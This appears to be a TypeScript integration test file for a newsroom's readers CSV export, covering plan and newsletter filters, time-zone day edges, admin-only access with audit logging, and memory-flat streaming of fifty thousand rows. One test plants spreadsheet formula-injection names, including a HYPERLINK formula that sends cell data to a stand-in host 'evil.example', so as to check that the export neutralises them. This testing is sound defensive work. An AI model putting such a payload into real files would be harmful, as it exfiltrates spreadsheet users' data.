// The readers CSV export against real PostgreSQL: the filters, the day edges
// in the publication's time zone, neutralised formulas, the audit entry, and
// fifty thousand readers streamed with flat memory. The readers are written
// in transactions that are rolled back (the export reads through them), so
// the other test files never see them.
import v8 from "node:v8";
import vm from "node:vm";
import { describe, expect, it } from "vitest";
import { COMMAND_LINE, ForbiddenError } from "@/lib/auth/actor";
import { lookupKeyFor } from "@/lib/billing/plans";
import { db, type Prisma } from "@/lib/db/prisma";
import type { ReadersExportFilter } from "@/lib/newsroom/readers/readers-export-filter";
import { READERS_EXPORT_COLUMNS, readersCsvStream, startReadersExport } from "@/lib/newsroom/readers/readers-export";
import { uniqueSuffix } from "../fixtures/articles";
import { actors, actorWith } from "../fixtures/people-with-roles";

const DAY = 86_400_000;
const everyone: ReadersExportFilter = { plan: "all", newsletter: "any", from: null, to: null };

type Tx = Prisma.TransactionClient;

/** Runs `work` in a transaction that is then rolled back, and returns what it returned. */
async function rolledBack<T>(work: (tx: Tx) => Promise<T>): Promise<T> {
  class Done extends Error {
    constructor(readonly value: T) {
      super("rolled back");
    }
  }
  const outcome = await db()
    .$transaction(
      async (tx) => {
        throw new Done(await work(tx));
      },
      { isolationLevel: "RepeatableRead", timeout: 120_000 },
    )
    .catch((error: unknown) => error);
  if (outcome instanceof Done) return outcome.value as T;
  throw outcome;
}

/** The whole file as text, its byte order mark kept (Response.text() would drop it). */
async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
  const reader = stream.getReader();
  let text = "";
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return text + decoder.decode();
    text += decoder.decode(value, { stream: true });
  }
}

/** RFC 4180, as far as the tests need it: quoted cells with "" and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    const next = text[index + 1];
    if (quoted && char === '"' && next === '"') {
      cell += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && char === "\r" && next === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      index += 1;
    } else {
      cell += char;
    }
  }
  expect(cell, "the file ends with CRLF").toBe("");
  return rows;
}

/** The rows of an export as objects keyed by column, the header checked. */
async function exportRows(tx: Tx, filter: ReadersExportFilter, timeZone = "UTC", batchSize = 2) {
  // An admin with no row of its own: inside the transaction, any other
  // connection waits for it on the embedded database, which has one.
  const admin = COMMAND_LINE;
  // Small batches: a few readers already span several keyset pages.
  const text = await readAll(readersCsvStream(admin, filter, { client: tx, timeZone, batchSize }));
  expect(text.startsWith("\uFEFF")).toBe(true);
  const [header, ...rows] = parseCsv(text.slice(1));
  expect(header).toEqual([...READERS_EXPORT_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(READERS_EXPORT_COLUMNS.map((column, at) => [column, cells[at]])));
}

function subscription(userId: string, fields: { status: string; periodEnd: Date; pastDueSince?: Date }) {
  return {
    id: `sub_export_${uniqueSuffix()}`,
    userId,
    customerId: `cus_export_${uniqueSuffix()}`,
    status: fields.status,
    priceId: "price_monthly",
    plan: lookupKeyFor("monthly"),
    currentPeriodEnd: fields.periodEnd,
    pastDueSince: fields.pastDueSince ?? null,
  };
}

describe("the filters", () => {
  it("list subscribers, comp and free readers by the newsroom's plan rule, and the newsletters each receives", async () => {
    const now = Date.now();
    const signedUp = new Date("1991-05-05T12:00:00Z");
    const window = { from: "1991-05-05", to: "1991-05-05" };
    const result = await rolledBack(async (tx) => {
      const person = async (name: string, data: Omit<Prisma.UserCreateInput, "email"> = {}) =>
        tx.user.create({ data: { email: `${name}-${uniqueSuffix()}@export.example`, createdAt: signedUp, ...data } });
      const payer = await person("payer", { name: "Pat Payer" });
      await tx.subscription.create({
        data: subscription(payer.id, { status: "active", periodEnd: new Date(now + 20 * DAY) }),
      });
      const graced = await person("graced");
      await tx.subscription.create({
        data: subscription(graced.id, {
          status: "past_due",
          periodEnd: new Date(now - DAY),
          pastDueSince: new Date(now - DAY),
        }),
      });
      const lapsed = await person("lapsed");
      await tx.subscription.create({
        data: subscription(lapsed.id, { status: "canceled", periodEnd: new Date(now - DAY) }),
      });
      const comp = await person("comp", { compUntil: new Date(now + DAY) });
      const expired = await person("expired", { compUntil: new Date(now - DAY) });
      const free = await person("free");
      // Choices: the payer switched the Daily Review off and the free one on;
      // the lapsed reader's old Review choice no longer sends them anything.
      await tx.newsletterSubscription.createMany({
        data: [
          { userId: payer.id, newsletter: "daily_review", subscribed: false },
          { userId: payer.id, newsletter: "free", subscribed: true },
          { userId: lapsed.id, newsletter: "daily_review", subscribed: true },
          { userId: free.id, newsletter: "free", subscribed: true },
        ],
      });
      const names = { payer, graced, lapsed, comp, expired, free };
      const who = (rows: Record<string, string | undefined>[]) =>
        rows.map((row) => Object.entries(names).find(([, user]) => user.email === row.email)?.[0]).sort();
      return {
        all: await exportRows(tx, { ...everyone, ...window }),
        subscriber: who(await exportRows(tx, { ...everyone, ...window, plan: "subscriber" })),
        comp: who(await exportRows(tx, { ...everyone, ...window, plan: "comp" })),
        free: who(await exportRows(tx, { ...everyone, ...window, plan: "free" })),
        freeNewsletter: who(await exportRows(tx, { ...everyone, ...window, newsletter: "free" })),
        daily: who(await exportRows(tx, { ...everyone, ...window, newsletter: "daily_review" })),
        weekly: who(await exportRows(tx, { ...everyone, ...window, newsletter: "weekly_review" })),
        none: who(await exportRows(tx, { ...everyone, ...window, newsletter: "none" })),
        freeAndNone: who(await exportRows(tx, { ...everyone, ...window, plan: "free", newsletter: "none" })),
        payer,
      };
    });
    expect(result.all).toHaveLength(6);
    expect(result.subscriber).toEqual(["graced", "payer"]);
    expect(result.comp).toEqual(["comp"]);
    expect(result.free).toEqual(["expired", "free", "lapsed"]);
    expect(result.freeNewsletter).toEqual(["free", "payer"]);
    expect(result.daily).toEqual(["comp", "graced"]);
    expect(result.weekly).toEqual(["comp", "graced", "payer"]);
    expect(result.none).toEqual(["expired", "lapsed"]);
    expect(result.freeAndNone).toEqual(["expired", "lapsed"]);
    expect(result.all.find((row) => row.email === result.payer.email)).toEqual({
      email: result.payer.email,
      name: "Pat Payer",
      "signed up": "1991-05-05T12:00:00.000Z",
      plan: "monthly",
      "subscription status": "active",
      "comp until": "",
      newsletters: "free; weekly_review",
      role: "reader",
    });
  });

  it("take sign-up days whole, in the publication's time zone", async () => {
    // New York, before the clocks went forward: midnight there is 05:00 UTC.
    const instants = [
      "1993-03-10T04:59:59.999Z", // 9 March, 23:59:59.999 in New York
      "1993-03-10T05:00:00.000Z", // 10 March, 00:00
      "1993-03-11T04:59:59.999Z", // 10 March, 23:59:59.999
      "1993-03-11T05:00:00.000Z", // 11 March, 00:00
    ];
    const found = await rolledBack(async (tx) => {
      for (const [at, instant] of instants.entries())
        await tx.user.create({
          data: { email: `edge${at}-${uniqueSuffix()}@export.example`, createdAt: new Date(instant) },
        });
      const signedUp = async (filter: Partial<ReadersExportFilter>, zone: string, batchSize?: number) =>
        (await exportRows(tx, { ...everyone, ...filter }, zone, batchSize)).map((row) => row["signed up"]);
      return {
        newYork: await signedUp({ from: "1993-03-10", to: "1993-03-10" }, "America/New_York"),
        // Everyone since: every other test's readers too, hence the larger batches.
        fromOnly: await signedUp({ from: "1993-03-11" }, "America/New_York", 1_000),
        toOnly: await signedUp({ to: "1993-03-09" }, "America/New_York"),
        utc: await signedUp({ from: "1993-03-10", to: "1993-03-10" }, "UTC"),
      };
    });
    expect(found.newYork).toEqual([instants[1], instants[2]]);
    expect(found.fromOnly.filter((instant) => instant?.startsWith("1993-03"))).toEqual([instants[3]]);
    expect(found.toOnly.filter((instant) => instant?.startsWith("1993-03"))).toEqual([instants[0]]);
    expect(found.utc).toEqual([instants[0], instants[1]]);
  });

  it("neutralise a name a spreadsheet would run as a formula", async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "@SUM(A1:A9)", "-2+3", 'Zoë, "the" reader'];
    const rows = await rolledBack(async (tx) => {
      for (const [second, name] of names.entries())
        await tx.user.create({
          data: {
            name,
            email: `formula-${uniqueSuffix()}@export.example`,
            createdAt: new Date(Date.UTC(1994, 5, 1, 10, 0, second)),
          },
        });
      return exportRows(tx, { ...everyone, from: "1994-06-01", to: "1994-06-01" });
    });
    expect(rows.map((row) => row.name)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1",
      "'@SUM(A1:A9)",
      "'-2+3",
      'Zoë, "the" reader',
    ]);
  });
});

describe("who may export", () => {
  it("admins only; the export is logged, with the filter, before the file is read", async () => {
    const { reader, editor } = await actors();
    const filter: ReadersExportFilter = { plan: "comp", newsletter: "none", from: "1971-01-01", to: "1971-01-02" };
    for (const actor of [reader, editor]) {
      await expect(startReadersExport(actor, filter)).rejects.toThrow(ForbiddenError);
      expect(() => readersCsvStream(actor, filter)).toThrow(ForbiddenError);
      expect(await db().auditEntry.count({ where: { actorId: actor.id } })).toBe(0);
    }
    const admin = await actorWith("admin");
    const stream = await startReadersExport(admin, filter);
    expect(await db().auditEntry.findMany({ where: { actorId: admin.id } })).toEqual([
      expect.objectContaining({
        actor: admin.label,
        action: "readers.export",
        subject: "readers (CSV)",
        details: { plan: "comp", newsletter: "none", from: "1971-01-01", to: "1971-01-02" },
      }),
    ]);
    expect(await readAll(stream)).toBe(`\uFEFF${READERS_EXPORT_COLUMNS.join(",")}\r\n`);
  });
});

// v8's gc() without starting Vitest with --expose-gc: measured memory is then
// what is still reachable, not garbage that a collection has not reached yet.
v8.setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext("gc") as () => void;

function liveBytes(): number {
  gc();
  const usage = process.memoryUsage();
  return usage.heapUsed + usage.arrayBuffers;
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe("fifty thousand readers", () => {
  const READERS = 50_000;
  // The bulk readers sign up a second apart: all on 1 January 1980, UTC.
  const filter: ReadersExportFilter = { ...everyone, from: "1980-01-01", to: "1980-01-01" };

  /**
   * Reads the export a chunk at a time and measures what is still reachable
   * every ten chunks. Early on the client stalls for three seconds, long
   * enough for an export that ignored backpressure to read some twenty
   * batches ahead (~130 ms a batch here) and hold them. `keep` holds every
   * chunk, as an export that buffered the whole file would: the control.
   */
  async function measure(tx: Tx, keep: boolean) {
    const admin = COMMAND_LINE;
    // Warm up Prisma's caches for these queries, so that they are not counted.
    const warmUp = readersCsvStream(admin, filter, { client: tx }).getReader();
    for (let chunk = 0; chunk < 3; chunk += 1) await warmUp.read();
    await warmUp.cancel();
    const kept: Uint8Array[] = [];
    const seen = new Uint8Array(READERS + 1);
    const decoder = new TextDecoder();
    let bytes = 0;
    let chunks = 0;
    let extraRows = 0;
    const baseline = liveBytes();
    let peak = 0;
    const samples: number[] = [];
    const reader = readersCsvStream(admin, filter, { client: tx }).getReader();
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      bytes += value.byteLength;
      if (keep) kept.push(value);
      // Every chunk is whole rows; the bulk readers' cells need no quoting.
      for (const line of decoder.decode(value).split("\r\n")) {
        const number = /^bulk-(\d+)@/.exec(line)?.[1];
        if (number) seen[Number(number)] = (seen[Number(number)] ?? 0) + 1;
        else if (line !== "" && !line.includes("email,name")) extraRows += 1;
      }
      if (chunks === 2 && !keep) await sleep(3_000);
      if (chunks % 10 === 2) {
        const sample = liveBytes() - baseline;
        samples.push(sample);
        peak = Math.max(peak, sample);
      }
    }
    peak = Math.max(peak, liveBytes() - baseline);
    const missing = seen.filter((count, number) => number > 0 && count === 0).length;
    const duplicated = seen.filter((count) => count > 1).length;
    return { bytes, chunks, peak, samples, missing, duplicated, extraRows, kept: kept.length };
  }

  it("stream completely, each reader once, with memory flat however large the file", { timeout: 180_000 }, async () => {
    const [streamed, buffered] = await rolledBack(async (tx) => {
      // Names about 180 characters long, so that the file (~14 MB) dwarfs
      // what one batch holds; one reader in ten on comp, one in three on the
      // free newsletter.
      await tx.$executeRaw`
        INSERT INTO users (email, name, created_at, comp_until)
        SELECT 'bulk-' || g || '@export.example',
               'Reader ' || g || ' ' || repeat('x', 170),
               timestamptz '1980-01-01 00:00:00+00' + g * interval '1 second',
               CASE WHEN g % 10 = 0 THEN now() + interval '30 days' END
        FROM generate_series(1, ${READERS}::int) AS g`;
      await tx.$executeRaw`
        INSERT INTO newsletter_subscriptions (user_id, newsletter, subscribed)
        SELECT id, 'free', true FROM users
        WHERE email LIKE 'bulk-%@export.example' AND split_part(substring(email from 6), '@', 1)::int % 3 = 0`;
      return [await measure(tx, false), await measure(tx, true)];
    });
    console.log(
      `readers export: ${streamed.bytes} bytes in ${streamed.chunks} chunks; live memory grew ` +
        `${(streamed.peak / 1e6).toFixed(2)} MB streamed (every ten chunks: ` +
        `${streamed.samples.map((bytes) => (bytes / 1e6).toFixed(2)).join(", ")} MB), ` +
        `${(buffered.peak / 1e6).toFixed(2)} MB with every chunk kept`,
    );
    expect(streamed).toMatchObject({ missing: 0, duplicated: 0, extraRows: 0 });
    expect(streamed.bytes).toBeGreaterThan(12_000_000);
    // Streamed: a batch or two in flight (about 0.6 MB), far below the file.
    // One sample in ten has been seen at 2.6 MB while CI ran both
    // integration suites at once (the collector's timing, not held rows);
    // a third of the file still tells streaming from the control below.
    expect(streamed.peak).toBeLessThan(streamed.bytes / 3);
    // The control: the same measure sees a file that is held whole.
    expect(buffered.peak).toBeGreaterThan(buffered.bytes * 0.9);
  });
});
